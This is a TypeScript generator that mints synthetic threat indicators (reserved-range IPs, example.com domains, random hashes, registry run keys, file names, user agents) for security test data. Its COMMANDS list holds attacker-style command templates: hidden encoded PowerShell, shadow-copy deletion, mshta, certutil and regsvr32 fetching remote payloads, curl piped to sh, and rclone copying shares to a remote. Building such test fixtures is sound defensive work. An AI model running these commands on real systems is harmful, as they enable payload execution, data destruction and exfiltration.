import type { Random } from "./random.ts";

/** Networks that are reserved for documentation (RFC 5737). */
const TEST_NETS = ["192.0.2", "198.51.100", "203.0.113"];

/** Names that are reserved for documentation (RFC 2606, RFC 6761). */
const ZONES = [
  "example",
  "example",
  "example.com",
  "example.net",
  "example.org",
];

const FIRST_WORDS = [
  "account",
  "archive",
  "billing",
  "cdn",
  "cloud",
  "customs",
  "delivery",
  "docs",
  "edge",
  "files",
  "gateway",
  "invoice",
  "login",
  "mail",
  "media",
  "meeting",
  "mfa",
  "news",
  "office",
  "parcel",
  "payroll",
  "portal",
  "public",
  "relay",
  "secure",
  "share",
  "sso",
  "static",
  "support",
  "survey",
  "sync",
  "telemetry",
  "tender",
  "ticket",
  "update",
  "vpn",
  "webmail",
  "wiki",
];

const SECOND_WORDS = [
  "access",
  "assets",
  "backup",
  "board",
  "cache",
  "center",
  "check",
  "connect",
  "desk",
  "drive",
  "exchange",
  "hub",
  "id",
  "info",
  "labs",
  "line",
  "link",
  "node",
  "online",
  "panel",
  "pilot",
  "point",
  "room",
  "service",
  "stats",
  "storage",
  "stream",
  "team",
  "track",
  "transfer",
  "verify",
  "view",
  "zone",
];

const URL_PATHS = [
  "api/v2/checkin",
  "assets/jquery-3.7.min.js",
  "cgi-bin/status",
  "dl/setup.msi",
  "docs/tender_2231.docx",
  "gate.php",
  "images/logo_small.png",
  "index.php",
  "login/microsoft/common/oauth2",
  "news/feed.xml",
  "owa/auth/logon.aspx",
  "panel/task",
  "remote/fgt_lang",
  "s/invoice.html",
  "submit.php",
  "sync/upload",
  "update/manifest.json",
  "wp-content/plugins/seo/cache.php",
];

const QUERIES = [
  "",
  "",
  "",
  "?id=",
  "?act=report&hwid=",
  "?token=",
  "?session=",
  "?c=",
  "#",
];

const FILE_STEMS = [
  "AdobeSync",
  "AgendaAnnex",
  "BackupAgent",
  "Contract_signed",
  "DriverSetup",
  "Invitation",
  "Invoice",
  "MeetingNotes",
  "OneDriveHelper",
  "Payslip",
  "PolicyUpdate",
  "PrintSpool",
  "Quotation",
  "Scan",
  "ServiceHost",
  "Statement",
  "TeamsUpdate",
  "Tender",
  "VpnClient",
  "WinLogonHelper",
  "libcurl",
  "version",
  "msedge_elf",
  "wlbsctrl",
];

const FILE_ENDINGS = [
  "exe",
  "dll",
  "docm",
  "xlsm",
  "lnk",
  "iso",
  "js",
  "vbs",
  "hta",
  "ps1",
  "msi",
  "pdf",
  "img",
  "bat",
  "sys",
];

const FOLDERS = [
  "C:\\ProgramData\\",
  "C:\\Users\\Public\\Libraries\\",
  "C:\\Windows\\Temp\\",
  "C:\\Windows\\Tasks\\",
  "C:\\PerfLogs\\",
  "/var/tmp/.",
  "/dev/shm/.",
  "/usr/lib/systemd/.",
  "C:\\Users\\Public\\Documents\\",
];

const RUN_KEYS = [
  "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
  "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
  "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\",
  "HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\",
  "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\",
];

const BROWSERS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Edge/",
  "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0) build/",
  "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.",
  "python-requests/2.",
  "curl/7.",
  "Go-http-client/1.1 r",
  "WinHTTP Loader/",
];

const PERSON_NAMES = [
  "a.keller",
  "billing",
  "c.moreau",
  "d.silva",
  "hr",
  "j.lindqvist",
  "k.novak",
  "legal",
  "m.okafor",
  "noreply",
  "p.rossi",
  "procurement",
  "r.haddad",
  "security-alert",
  "t.yamada",
  "visa.section",
];

const ISSUERS = [
  "CN=Example Trust RSA CA 2, O=Example Trust, C=XX",
  "CN=Test Code Signing CA R3, O=Test Authority, C=XX",
  "CN=localhost",
  "CN=Internal Issuing CA 01, O=Example Corp, C=XX",
];

const COMMANDS = [
  "powershell.exe -NoP -W Hidden -Enc ",
  "cmd.exe /c vssadmin delete shadows /all /quiet & echo ",
  "rundll32.exe C:\\ProgramData\\{stem}.dll,Start ",
  "schtasks.exe /create /sc onlogon /ru SYSTEM /tn {stem} /tr ",
  "mshta.exe http://{domain}/",
  "certutil.exe -urlcache -split -f http://{domain}/",
  "regsvr32.exe /s /u /i:http://{domain}/a.sct scrobj.dll ",
  "rclone.exe copy D:\\Shares remote:",
  "/bin/sh -c 'curl -fsSL http://{domain}/i.sh | sh' #",
  "wmic.exe /node:{ip} process call create ",
];

/**
 * Makes indicator values that exist nowhere: documentation addresses and
 * names, test numbers, hashes of nothing.
 */
export class Mint {
  readonly random: Random;

  constructor(random: Random) {
    this.random = random;
  }

  ipv4(): string {
    return `${this.random.pick(TEST_NETS)}.${this.random.int(1, 254)}`;
  }

  /** A network of 8 to 128 addresses. */
  ipv4Network(): string {
    const length = this.random.int(25, 29);
    const size = 2 ** (32 - length);
    const start = this.random.int(0, 256 / size - 1) * size;
    return `${this.random.pick(TEST_NETS)}.${start}/${length}`;
  }

  ipv6(): string {
    const { random } = this;
    return `2001:db8:${this.#group()}:${this.#group()}::${
      random.int(1, 0xffff).toString(16)
    }`;
  }

  ipv6Network(): string {
    return this.random.chance(0.5)
      ? `2001:db8:${this.#group()}::/48`
      : `2001:db8:${this.#group()}:${this.#group()}::/64`;
  }

  /** A name as phishers and operators register it, in a reserved zone. */
  domain(words: readonly string[] = FIRST_WORDS): string {
    const { random } = this;
    const first = random.pick(words);
    const second = random.pick(SECOND_WORDS);
    const number = random.chance(0.45) ? String(random.int(2, 999)) : "";
    const joint = random.chance(0.6) ? "-" : "";
    return `${first}${joint}${second}${number}.${random.pick(ZONES)}`;
  }

  hostname(): string {
    return `${this.random.pick(["srv", "vps", "node", "ns", "mx", "host"])}${
      this.random.int(1, 999)
    }.${this.domain()}`;
  }

  url(host: string = this.domain()): string {
    const { random } = this;
    const scheme = random.chance(0.6) ? "https" : "http";
    const port = random.chance(0.2)
      ? `:${random.pick([8080, 8443, 4443, 2083, 81])}`
      : "";
    const query = random.pick(QUERIES);
    const value = query === "" ? "" : random.hex(random.int(4, 24));
    return `${scheme}://${host}${port}/${
      random.pick(URL_PATHS)
    }${query}${value}`;
  }

  email(): string {
    return `${this.random.pick(PERSON_NAMES)}@${this.domain()}`;
  }

  md5(): string {
    return this.random.hex(32);
  }

  sha1(): string {
    return this.random.hex(40);
  }

  sha256(): string {
    return this.random.hex(64);
  }

  fileName(): string {
    return `${this.#stem()}.${this.random.pick(FILE_ENDINGS)}`;
  }

  directory(): string {
    return `${this.random.pick(FOLDERS)}${this.#stem()}`;
  }

  registryKey(): string {
    const key = this.random.pick(RUN_KEYS);
    return key.endsWith("\\") ? `${key}${this.#stem()}` : key;
  }

  /** Name and data of a registry value that starts a program. */
  registryValue(): { name: string; data: string; data_type: string } {
    const stem = this.#stem();
    return {
      name: stem,
      data: `${this.random.pick(FOLDERS.slice(0, 5))}${stem}.exe`,
      data_type: "REG_SZ",
    };
  }

  mutex(): string {
    const guid = this.random.uuid().toUpperCase();
    return this.random.pick([
      `Global\\${this.#stem()}`,
      `{${guid}}`,
      `Local\\{${guid}}`,
    ]);
  }

  /** In the block for documentation (RFC 7042): 00-00-5E-00-53-xx. */
  mac(): string {
    return `00:00:5e:00:53:${this.random.hex(2)}`;
  }

  /** A number reserved for documentation (RFC 5398). */
  autonomousSystem(): number {
    return this.random.pick([64496, 65536]) + this.random.int(0, 15);
  }

  serialNumber(): string {
    return (this.random.hex(32).match(/../g) as string[]).join(":");
  }

  issuer(): string {
    return this.random.pick(ISSUERS);
  }

  userAgent(): string {
    return `${this.random.pick(BROWSERS)}${this.random.int(10, 9999)}`;
  }

  commandLine(): string {
    return this.random.pick(COMMANDS)
      .replace("{stem}", this.#stem())
      .replace("{domain}", this.domain())
      .replace("{ip}", this.ipv4()) + this.random.hex(12);
  }

  /** Looks like a bech32 address; the checksum is wrong on purpose. */
  wallet(): string {
    return `bc1qexample${this.random.hex(28)}`;
  }

  /** Of the range kept for fiction: +1 555 01xx. */
  phoneNumber(): string {
    return `+1-${this.random.int(201, 989)}-555-01${
      String(this.random.int(0, 99)).padStart(2, "0")
    }`;
  }

  port(): number {
    return this.random.pick([
      22,
      53,
      80,
      443,
      445,
      1080,
      3389,
      4444,
      8443,
      9001,
    ]);
  }

  login(): string {
    return `${this.random.pick(["svc", "adm", "bkp", "tmp"])}-${
      this.random.pick(SECOND_WORDS)
    }${this.random.int(1, 99)}`;
  }

  size(): number {
    return this.random.int(4_096, 8_388_608);
  }

  #stem(): string {
    const number = this.random.chance(0.5)
      ? `_${this.random.int(10, 9999)}`
      : "";
    return `${this.random.pick(FILE_STEMS)}${number}`;
  }

  #group(): string {
    return this.random.int(1, 0xffff).toString(16);
  }
}
